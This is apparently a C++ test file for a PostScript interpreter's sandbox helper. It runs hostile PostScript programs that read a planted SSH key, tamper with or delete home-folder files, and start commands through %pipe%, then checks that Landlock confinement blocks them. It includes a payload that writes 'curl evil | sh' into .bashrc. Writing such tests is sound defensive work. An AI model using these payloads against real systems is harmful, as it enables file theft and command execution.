// Quorvane Vantoria
// Copyright 2026 Quorvane
// SPDX-License-Identifier: AGPL-3.0-or-later

// Hostile PostScript files through tessarin.so and its helper, run with
// -dNOSAFER (a stand-in for any way around the interpreter's own guard)
// against a home folder holding a planted secret. Each attack is first shown
// to work with a test build of the helper that skips the confinement, then
// shown to fail with the real helper: no secret in anything the run hands
// back or writes, nothing created, changed or removed outside its output.
#include "tests/modules/ModuleTestUtil.h"

#include <sys/stat.h>

#include <functional>
#include <map>
#include <memory>

#include "modules/tessarin/ConfineLandlock.h"

using namespace moduletest;

namespace {

const std::string kSecret = "s3cretKey-4242";
const std::string kHiddenName = "hiddenName7731";

// tessarin.so beside another build of the helper, in a folder of its own.
class EngineWithHelper {
public:
    explicit EngineWithHelper(const std::string &helper) {
        fs::copy_file(BinDir() + "/tessarin.so", m_dir.File("tessarin.so"));
        fs::copy_file(helper, m_dir.File("tessarin-run"));
        m_engine = std::make_unique<Engine>(m_dir.File("tessarin.so"));
    }
    Engine &engine() { return *m_engine; }

private:
    TempFolder m_dir;
    std::unique_ptr<Engine> m_engine;
};

// A home folder with a key, a private file, a shell start-up file and a file
// to lose; the output folder; and the attack's own file.
struct Scene {
    Scene() {
        root = fs::canonical(dir.Path()).string();
        home = root + "/home";
        fs::create_directories(home + "/.ssh");
        fs::create_directories(root + "/out");
        WriteFile(home + "/.ssh/id_rsa", kSecret);
        WriteFile(home + "/private-" + kHiddenName + ".txt", "private");
        WriteFile(home + "/.bashrc", "# shell start-up\n");
        WriteFile(home + "/victim.txt", "keep me");
        pdf = root + "/out/out.pdf";
        ps = root + "/attack.ps";
    }
    // Every entry outside the output folder but the attack itself, with the
    // content of files.
    std::map<std::string, std::string> Outside() const {
        std::map<std::string, std::string> entries;
        for (const auto &e : fs::recursive_directory_iterator(root)) {
            std::string path = e.path().string();
            if (path.rfind(root + "/out", 0) == 0 || path == ps)
                continue;
            entries[path] = e.is_regular_file() && !e.is_symlink() ? ReadFile(path) : "(entry)";
        }
        return entries;
    }
    // Everything the run handed back or wrote, as text.
    std::string Outputs(const Engine &engine) const {
        std::string all = engine.lastError;
        for (const auto &e : fs::recursive_directory_iterator(root + "/out"))
            if (e.is_regular_file())
                all += ReadFile(e.path().string());
        return all + readback::PdfText(pdf);
    }
    // Runs `program` as the file's whole text after its first line.
    int Run(Engine &engine, const std::string &program) {
        return RunFile(engine, "%!PS\n" + program + "\n");
    }
    int RunFile(Engine &engine, const std::string &text) {
        WriteFile(ps, text);
        return engine.Run({"tessarin", "-dNOPAUSE", "-dBATCH", "-dNOSAFER", "-sDEVICE=pdfwrite",
                           "-sOutputFile=" + pdf, ps});
    }

    TempFolder dir;
    std::string root, home, pdf, ps;
};

// Shows what was read on a page and as the name of an undefined operator, so
// it reaches the output and the error line.
const std::string kLeak = " /leak exch def /Helvetica findfont 12 scalefont setfont 72 700 "
                          "moveto leak show showpage leak cvn cvx exec";
const std::string kReadOpen = " dup 64 string readstring pop exch closefile" + kLeak;

struct Attack {
    const char *name;
    std::function<std::string(const Scene &)> program;
    // True when the attack did what it wanted, seen from outside.
    std::function<bool(const Scene &, const Engine &)> worked;
};

bool Leaked(const Scene &s, const Engine &e) {
    std::string out = s.Outputs(e);
    return out.find(kSecret) != std::string::npos || out.find(kHiddenName) != std::string::npos;
}
bool Exists(const std::string &path) {
    struct stat st {};
    return lstat(path.c_str(), &st) == 0;
}

const Attack kAttacks[] = {
    {"ReadsAFile",
     [](const Scene &s) { return "(" + s.home + "/.ssh/id_rsa) (r) file" + kReadOpen; }, Leaked},
    {"RunsAFile", [](const Scene &s) { return "(" + s.home + "/.ssh/id_rsa) run"; }, Leaked},
    {"FindsALibraryFile",
     [](const Scene &s) {
         return "(" + s.home + "/.ssh/id_rsa) findlibfile { exch pop" + kReadOpen +
                " } { pop } ifelse";
     },
     Leaked},
    {"ListsAFolder",
     [](const Scene &s) {
         return "(" + s.home + "/*) { dup (" + kHiddenName +
                ") search { pop pop pop dup length string copy cvn cvx exec } { pop pop } ifelse "
                "} 256 string filenameforall";
     },
     Leaked},
    {"OverwritesAFile",
     [](const Scene &s) {
         return "(" + s.home + "/.bashrc) (w) file dup (curl evil | sh) writestring closefile";
     },
     [](const Scene &s, const Engine &) {
         return ReadFile(s.home + "/.bashrc").find("evil") != std::string::npos;
     }},
    {"CreatesAFile", [](const Scene &s) { return "(" + s.home + "/created) (w) file closefile"; },
     [](const Scene &s, const Engine &) { return Exists(s.home + "/created"); }},
    {"DeletesAFile", [](const Scene &s) { return "(" + s.home + "/victim.txt) deletefile"; },
     [](const Scene &s, const Engine &) { return !Exists(s.home + "/victim.txt"); }},
    {"RenamesAFile",
     [](const Scene &s) {
         return "(" + s.home + "/victim.txt) (" + s.home + "/renamed.txt) renamefile";
     },
     [](const Scene &s, const Engine &) { return !Exists(s.home + "/victim.txt"); }},
    {"RunsACommandThroughAPipe",
     [](const Scene &s) { return "(%pipe%touch " + s.home + "/piped) (w) file closefile"; },
     [](const Scene &s, const Engine &) { return Exists(s.home + "/piped"); }},
    {"SendsItsOutputToACommand",
     [](const Scene &s) {
         return "<< /OutputFile (%pipe%touch " + s.home + "/piped) >> setpagedevice showpage";
     },
     [](const Scene &s, const Engine &) { return Exists(s.home + "/piped"); }},
};

class HostileFileTest : public ::testing::TestWithParam<Attack> {
protected:
    static void SetUpTestSuite() {
        unconfined = new EngineWithHelper(UNCONFINED_HELPER);
        withoutLandlock = new EngineWithHelper(HELPER_WITHOUT_LANDLOCK);
    }
    static void TearDownTestSuite() {
        delete unconfined;
        delete withoutLandlock;
    }
    static EngineWithHelper *unconfined;
    static EngineWithHelper *withoutLandlock;
    Engine confined;
};
EngineWithHelper *HostileFileTest::unconfined = nullptr;
EngineWithHelper *HostileFileTest::withoutLandlock = nullptr;

} // namespace

TEST_P(HostileFileTest, WorksUnconfinedAndFailsConfined) {
    const Attack &attack = GetParam();
    {
        Scene open;
        open.Run(unconfined->engine(), attack.program(open));
        ASSERT_TRUE(attack.worked(open, unconfined->engine()))
            << "the attack does not work even unconfined: " << unconfined->engine().lastError;
    }
    if (tessarin::LandlockAbi() == 0)
        GTEST_SKIP() << "this kernel has no Landlock: files are not guarded";
    Scene s;
    const auto before = s.Outside();
    s.Run(confined, attack.program(s));
    EXPECT_FALSE(attack.worked(s, confined));
    std::string out = s.Outputs(confined);
    EXPECT_EQ(out.find(kSecret), std::string::npos);
    EXPECT_EQ(out.find(kHiddenName), std::string::npos);
    EXPECT_EQ(s.Outside(), before) << "nothing created, changed or removed outside";
}

INSTANTIATE_TEST_SUITE_P(Attacks, HostileFileTest, ::testing::ValuesIn(kAttacks),
                         [](const auto &info) { return std::string(info.param.name); });

// On a kernel without Landlock files are not guarded, but conversions go on
// and no command can be started.
TEST_F(HostileFileTest, WithoutLandlockConversionsGoOnAndCommandsDont) {
    Engine &engine = withoutLandlock->engine();
    Scene s;
    ASSERT_EQ(s.RunFile(engine, PagesPs({"plain page"})), 0) << engine.lastError;
    EXPECT_NE(readback::PdfText(s.pdf).find("plain page"), std::string::npos);
    for (const Attack &attack : kAttacks) {
        if (std::string(attack.name).find("Command") == std::string::npos)
            continue;
        Scene t;
        t.Run(engine, attack.program(t));
        EXPECT_FALSE(attack.worked(t, engine)) << attack.name;
    }
}

// An output named through a link would let the interpreter write where the
// link points: the helper refuses to run at all.
TEST_F(HostileFileTest, AnOutputThatIsALinkIsRefused) {
    Scene s;
    fs::create_symlink(s.home + "/.bashrc", s.pdf);
    WriteFile(s.ps, PagesPs({"page"}));
    int code = confined.Run(
        {"tessarin", "-dNOPAUSE", "-dBATCH", "-sDEVICE=pdfwrite", "-sOutputFile=" + s.pdf, s.ps});
    EXPECT_EQ(code, TESSARIN_E_CONFINE);
    EXPECT_EQ(ReadFile(s.home + "/.bashrc"), "# shell start-up\n");
}
